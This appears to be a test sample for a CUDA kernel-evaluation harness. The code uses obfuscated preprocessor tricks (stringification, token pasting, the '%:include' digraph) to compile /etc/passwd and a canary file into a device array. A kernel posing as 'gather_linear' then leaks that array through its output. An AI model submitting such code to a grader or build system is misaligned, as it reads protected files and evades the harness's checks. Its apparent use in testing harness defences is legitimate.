// Attack: the header name built by stringification and token pasting, so no
// path appears as a literal: STR(/etc/passwd) and an <...> name pasted from
// pieces.
// clang-format off
#define STR_(x) #x
#define STR(x) STR_(x)
#define CAT(a, b) a##b
#define ETC CAT(et, c)
__device__ int leak[] = {
%:include STR(/ETC/passwd)
%:include STR(@CANARY_FILE@)
};
// @kb launch gather_linear grid(B) block(32)
extern "C" __global__ void gather_linear(const float* x, const float* w,
                                         const float* bias, float* out,
                                         int R, int B, int H, int K) { out[0] = leak[0]; }
